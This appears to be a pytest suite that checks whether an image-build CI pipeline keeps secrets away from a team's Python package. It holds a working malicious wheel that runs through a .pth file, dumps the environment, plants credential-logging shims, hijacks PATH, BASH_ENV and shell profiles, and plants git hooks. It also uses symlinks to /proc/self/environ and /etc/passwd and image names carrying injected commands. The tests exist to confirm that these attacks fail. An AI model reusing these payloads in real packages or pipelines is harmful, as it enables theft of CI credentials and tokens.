"""A team's package in the build of its image: it sees no secret, and nothing of what it leaves steers another job.

The package is real and takes over the build's Python by a `.pth` file; the jobs are those of the workflows, each on its own
machine (`Runner.alone`), with the real skopeo and a real registry.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import tarfile
import zipfile
from pathlib import Path

import pytest
import yaml

from generator.source.content import joint_path_digest, path_digest
from tests.ci.demo import Demo, git
from tests.ci.jobs import IMAGE, IMAGES, MODEL, good, pushed, runner
from tests.ci.runner import REPORT, Ran, Runner

SECRETS = ("model-store-secret", "registry-secret", "artifacts-secret", "propose-secret")
EVIL = """
import json, os, pathlib

seen = pathlib.Path(os.environ.get("EVIL_SEEN", "/nonexistent"))
if seen.parent.is_dir():
    with seen.open("a") as stream:
        stream.write(json.dumps(dict(os.environ)) + "\\n")
    tools = pathlib.Path.home() / "tools"
    tools.mkdir(exist_ok=True)
    for name in ("docker", "gh", "git", "python", "sh", "skopeo", "sluice", "tar"):
        (tools / name).write_text('#!/bin/bash\\necho "$0 $@ $REGISTRY_PASSWORD $GH_TOKEN" >> ' + str(seen) + '.stolen\\n')
        (tools / name).chmod(0o755)
    for variable, line in (("GITHUB_PATH", str(tools)), ("GITHUB_ENV", f"BASH_ENV={tools}/sh")):
        if variable in os.environ:
            with open(os.environ[variable], "a") as stream:
                stream.write(line + "\\n")
    for place in (pathlib.Path.home() / ".bashrc", pathlib.Path.home() / ".profile"):
        place.write_text(f"PATH={tools}:$PATH\\n")
    work = os.environ.get("EVIL_WORK")
    if work:
        for name in ("push-image.sh", "propose.sh", "propose-digests.sh"):
            (pathlib.Path(work) / "ci").mkdir(exist_ok=True)
            (pathlib.Path(work) / "ci" / name).write_text(f"exec {tools}/sh\\n")
"""


@pytest.fixture
def evil(demo: Demo, scratch: Path, imaged: Runner) -> Runner:
    """The demo with a requirement whose package runs in every Python that has it."""
    wheels = scratch / "wheels"
    wheels.mkdir()
    files = {
        "zz_evil.pth": "import zz_evil\n",
        "zz_evil.py": EVIL,
        "zz_evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: zz-evil\nVersion: 1.0\n",
        "zz_evil-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(f"{name},,\n" for name in [*files, "zz_evil-1.0.dist-info/RECORD"])
    with zipfile.ZipFile(wheels / "zz_evil-1.0-py3-none-any.whl", "w") as archive:
        for name, text in {**files, "zz_evil-1.0.dist-info/RECORD": record}.items():
            archive.writestr(name, text)
    require(demo)
    names = ("MLFLOW_TRACKING_TOKEN", "HF_TOKEN", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY")
    imaged.given = {
        **imaged.given,
        **{f"secrets.{name}": "model-store-secret" for name in names},
        **{f"sluice-models:{name}": "model-store-secret" for name in names},
        "secrets.REGISTRY_PASSWORD": "registry-secret",
        "sluice-registry:REGISTRY_PASSWORD": "registry-secret",
        "sluice-registry:SLUICE_ARTIFACTS_TOKEN": "artifacts-secret",
        "secrets.SLUICE_TOKEN || github.token": "propose-secret",
    }
    imaged.variables = {
        **imaged.variables,
        "UV_FIND_LINKS": str(wheels),
        "EVIL_SEEN": str(scratch / "seen"),
    }
    return imaged


def require(demo: Demo) -> None:
    """Name the package in the spec, as anyone of the team may."""
    spec = demo.root / f"specs/{MODEL}.yaml"
    document = yaml.safe_load(spec.read_text())
    document["spec"].setdefault("service", {})["requirements"] = ["zz-evil==1.0"]
    spec.write_text(yaml.safe_dump(document, sort_keys=False))
    demo.sluice("render")
    demo.commit("One more package")


def nothing_leaked(scratch: Path) -> None:
    """The package ran, saw no secret, and none of its programs was ever called."""
    seen = (scratch / "seen").read_text()
    assert seen.count("\n") > 1
    assert [secret for secret in SECRETS if secret in seen] == []
    assert not (scratch / "seen.stolen").exists()


def test_a_package_reaches_no_secret_on_github(demo: Demo, scratch: Path, evil: Runner) -> None:
    good(evil.job(IMAGES, "list"))
    models = evil.output("models")
    (item,) = json.loads(models)
    evil.given |= {f"inputs.{key}": value for key, value in item.items()}
    for name in ("fetch", "build", "push"):
        good(evil.alone(IMAGE, name))
    pushed(item["image"])
    nothing_leaked(scratch)
    (stores,) = scratch.glob("machines/*fetch/env")
    assert stores.read_text() == ""


def test_a_package_reaches_no_secret_on_gitlab(demo: Demo, scratch: Path, evil: Runner) -> None:
    evil.variables = {
        **evil.variables,
        "CI_JOB_TOKEN": "propose-secret",
        "CI_REGISTRY_PASSWORD": "registry-secret",
    }
    document = yaml.safe_load(demo.sluice("ci", "images", "--format", "gitlab"))
    for stage in document["stages"]:
        good(evil.gitlab_alone(document, f"{stage} support.ticket-classifier"))
        if stage == "build":
            more_than_an_image(evil.artifacts["build support.ticket-classifier"], scratch)
    pushed((demo.root / f"rendered/bentos/{MODEL}/IMAGE").read_text().strip())
    nothing_leaked(scratch)


def more_than_an_image(handed: Path, scratch: Path) -> None:
    """Add what code with the job token could upload: scripts for the checkout of the next job, a hook, a link, variables."""
    steal = f'env >> "{scratch}/seen.stolen"\n'
    for path in ("ci/push-image.sh", ".git/hooks/post-checkout", "handed/x", "checkout/ci/push-image.sh"):
        (handed / path).parent.mkdir(parents=True, exist_ok=True)
        (handed / path).write_text(f"#!/bin/sh\n{steal}")
        (handed / path).chmod(0o755)
    for path in ("ci/sbom.py", "ci/json.py", "json.py"):
        (handed / path).write_text(f"import os\nos.system({steal!r})\n")
    (handed / "sbom.cdx.json").symlink_to(scratch / "overwritten")
    (handed / "stolen.sh").write_text(steal)
    (handed / REPORT).write_text(f"BASH_ENV={handed}/stolen.sh\nPATH={handed}\nCI_COMMIT_SHA=x\n")


@pytest.mark.parametrize("kind", ["a file", "a folder"])
@pytest.mark.parametrize("other", ["", "bytes", "a link", "a pipe"])
def test_the_download_hands_over_the_bytes_of_the_lock_only(
    demo: Demo, tmp_path: Path, kind: str, other: str
) -> None:
    """A store could name a file of the machine that downloads, and the job that gets the archive runs a team's code."""
    model = tmp_path / "model"
    if kind == "a folder":
        (model / "sub").mkdir(parents=True)
        (model / "sub" / "ü").write_text("one")
        (model / "weights").write_text("two")
    else:
        model.write_text("one")
    digest = path_digest(model, "the model")
    changed = model / "sub" / "new" if kind == "a folder" else model
    if other:
        changed.unlink(missing_ok=True)
    if other == "bytes":
        changed.write_text("a secret")
    if other == "a link":
        changed.symlink_to("/proc/self/environ")
    if other == "a pipe":
        os.mkfifo(changed)
    (demo.root / "ci/fetch-model.sh").write_text(f"echo {model}\n")
    archive = tmp_path / "source.tar"
    command = ["sh", "ci/fetch-source.sh", MODEL, "s3://x/y", digest, str(archive)]
    done = subprocess.run(command, cwd=demo.root, capture_output=True, text=True, timeout=60)
    assert (done.returncode, archive.exists()) == ((1, False) if other else (0, True)), done.stderr
    if other:
        assert ("the lock pins" if other == "bytes" else "is a link, or contains") in done.stderr


def test_all_models_of_a_service_are_handed_over_each_in_its_folder(demo: Demo, tmp_path: Path) -> None:
    """Their digest is that of a list, in the order of the names; bytes of one that changed are refused."""
    for name in ("model", "b_second", "a_first"):
        (tmp_path / "stored" / name).mkdir(parents=True)
        (tmp_path / "stored" / name / "weights").write_text(name)
    folders = tmp_path / "folders"
    for name in ("model", "b_second", "a_first"):
        shutil.copytree(tmp_path / "stored" / name, folders / name / name)
    digest = joint_path_digest(folders, ("model", "b_second", "a_first"))
    (demo.root / "ci/fetch-model.sh").write_text(f'echo "{tmp_path}/stored/${{1#s3://x/}}"\n')
    resolved = "s3://x/model b_second=s3://x/b_second a_first=s3://x/a_first"
    for changed in (True, False):
        archive = tmp_path / f"{changed}.tar"
        if changed:
            (folders / "a_first/a_first/weights").write_text("other")
        asked = joint_path_digest(folders, ("model", "b_second", "a_first")) if changed else digest
        command = ["sh", "ci/fetch-source.sh", MODEL, resolved, asked, str(archive)]
        shutil.copytree(tmp_path / "stored", tmp_path / "kept", dirs_exist_ok=True)
        done = subprocess.run(command, cwd=demo.root, capture_output=True, text=True, timeout=60)
        assert (done.returncode, archive.exists()) == ((1, False) if changed else (0, True)), done.stderr
        shutil.copytree(tmp_path / "kept", tmp_path / "stored", dirs_exist_ok=True)
    with tarfile.open(archive) as tar:
        names = sorted(item.name for item in tar if "/model/" in item.name and item.isfile())
    assert names == [f"./model/all/{name}/{name}/weights" for name in ("a_first", "b_second", "model")]


@pytest.mark.parametrize(("fork", "created"), [(True, 1), (False, 0)])
def test_a_branch_of_a_fork_keeps_no_proposal_back(
    demo: Demo, scratch: Path, tmp_path: Path, *, fork: bool, created: int
) -> None:
    """A stranger can open a pull request from a branch with the name that a revert has, and a tag may have it as well."""
    branch = "sluice/revert-x"
    demo.git("branch", branch)
    demo.git("tag", branch, "main")
    body = tmp_path / "body.md"
    body.write_text("x")
    found = runner(demo, scratch, STANDIN_PULLS=json.dumps([{"number": 7, "isCrossRepository": fork}]))
    script = f"sh ci/propose.sh {branch} main Title {body}"
    good(found.steps([{"name": "propose", "run": script}]))
    assert len([call for call in found.calls if call.startswith("gh pr create")]) == created
    assert git(demo.remote, "rev-parse", f"refs/heads/{branch}") == demo.git(
        "rev-parse", f"refs/heads/{branch}"
    )


def archive_of(path: Path, images: int) -> None:
    """Write an archive of so many images, as docker does."""
    layer = io.BytesIO()
    tarfile.open(fileobj=layer, mode="w").close()
    config = {
        "architecture": "amd64",
        "os": "linux",
        "config": {},
        "rootfs": {"type": "layers", "diff_ids": []},
    }
    manifest = [{"Config": "config.json", "RepoTags": [f"x/{n}:1"], "Layers": []} for n in range(images)]
    with tarfile.open(path, "w") as tar:
        for name, value in {"config.json": config, "manifest.json": manifest}.items():
            content = json.dumps(value).encode()
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            tar.addfile(entry, io.BytesIO(content))


def handed(imaged: Runner, folder: Path, **inputs: str) -> list[Ran]:
    """Push what a build handed over."""
    image = (imaged.checkout / f"rendered/bentos/{MODEL}/IMAGE").read_text().strip()
    imaged.artifacts["7"] = folder
    given = {"inputs.model": MODEL, "inputs.image": image, "needs.build.outputs.image": "7", **inputs}
    imaged.given = {**imaged.given, **given}
    return imaged.alone(IMAGE, "push")


@pytest.mark.parametrize(
    ("kind", "why"),
    [
        ("a second file", "something other than image.tar"),
        ("a hidden file", "something other than image.tar"),
        ("another name", "something other than image.tar"),
        ("a link", "no file image.tar"),
        ("a folder", "no file image.tar"),
        ("a script", "not an archive of one image"),
        ("two images", "not an archive of one image"),
        ("no image", "not an archive of one image"),
    ],
)
def test_what_is_not_one_archive_of_one_image_is_not_pushed(
    imaged: Runner, tmp_path: Path, kind: str, why: str
) -> None:
    folder = tmp_path / "handed"
    folder.mkdir()
    archive = folder / "image.tar"
    if kind == "a link":
        archive.symlink_to("/etc/passwd")
    elif kind == "a folder":
        (archive / "x").mkdir(parents=True)
    elif kind == "a script":
        archive.write_text("#!/bin/sh\n")
    else:
        archive_of(archive, {"two images": 2, "no image": 0}.get(kind, 1))
    if kind == "a second file":
        (folder / "auth.json").write_text("{}")
    if kind == "a hidden file":
        (folder / ".config").write_text("{}")
    if kind == "another name":
        archive.rename(folder / "image.tar.gz")
    ran = handed(imaged, folder)
    assert ran[-1].code == 1
    assert why in ran[-1].output
    assert not [call for call in imaged.calls if call.startswith(("skopeo login", "skopeo copy"))]


@pytest.mark.parametrize(
    "image",
    ["registry.other.example/models/shop/x:1", "{}/../x:1;id", "{}/shop/x:1 --all", "{}/shop/x", "--help"],
)
def test_an_image_is_pushed_to_the_registry_only(imaged: Runner, tmp_path: Path, image: str) -> None:
    folder = tmp_path / "handed"
    folder.mkdir()
    archive_of(folder / "image.tar", 1)
    registry = yaml.safe_load((imaged.checkout / "specs/platform.yaml").read_text())["spec"]["registry"]
    ran = handed(imaged, folder, **{"inputs.image": image.format(registry)})
    assert ran[-1].code == 1
    assert "nothing was pushed" in ran[-1].output
    assert not [call for call in imaged.calls if call.startswith("skopeo")]


@pytest.mark.parametrize(
    "place", ["rendered/bentos/support", f"rendered/bentos/{MODEL}", f"rendered/bentos/{MODEL}/x"]
)
def test_a_link_in_a_bento_brings_no_file_of_the_machine(
    demo: Demo, imaged: Runner, scratch: Path, place: str
) -> None:
    target = demo.root / place
    outside = scratch / "outside"
    (outside / "ticket-classifier").mkdir(parents=True)
    if target.is_dir():
        shutil.rmtree(target)
    target.symlink_to(outside)
    demo.commit("A link")
    resolved = yaml.safe_load((demo.root / f"specs/{MODEL}.lock.yaml").read_text())["model"]["resolved"]
    imaged.given = {
        **imaged.given,
        "inputs.model": MODEL,
        "inputs.key": "x",
        "inputs.resolved": resolved,
        "inputs.digest": "sha256:x",
        "inputs.python": "3.11",
        "inputs.indexes": "",
    }
    ran = imaged.alone(IMAGE, "fetch")
    assert ran[-1].code == 1
    assert "is a link, or contains one" in ran[-1].output
    assert imaged.artifacts == {}
